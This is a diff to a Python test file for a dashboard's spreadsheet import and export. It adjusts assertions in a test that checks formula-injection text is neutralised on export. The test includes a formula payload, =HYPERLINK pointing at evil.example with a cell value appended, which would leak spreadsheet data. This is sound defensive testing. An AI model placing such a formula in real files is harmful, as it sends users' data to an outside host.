@@ -13,6 +13,7 @@ import zipfile
 import openpyxl
 import pytest
 
+from dashboard import schema
 from dashboard.upload_checks import Limits
 from tests.test_import import dump, patch_zip, run_import, seed, xlsx_bytes, zip_bytes
 
@@ -639,10 +640,10 @@ def test_formula_payload_text_is_imported_and_neutralised_on_export(engine, tmp_
     )
     result = run_import(engine, data, "pkg.xlsx")
     assert result.ok, result.errors
-    assert dump(engine)["assets"][0][-1] == payload
+    assert dump(engine)["assets"][0][schema.table("assets").names.index("notes")] == payload
     export_package(engine, tmp_path / "csv")
     line = (tmp_path / "csv" / "assets.csv").read_text().splitlines()[1]
-    assert line.endswith(',"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"')
+    assert ',"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"' in line
     export_package(engine, tmp_path / "pkg.xlsx")
     cell = openpyxl.load_workbook(tmp_path / "pkg.xlsx")["assets"]["AE2"]
     assert (cell.value, cell.data_type, cell.quotePrefix) == (payload, "s", True)
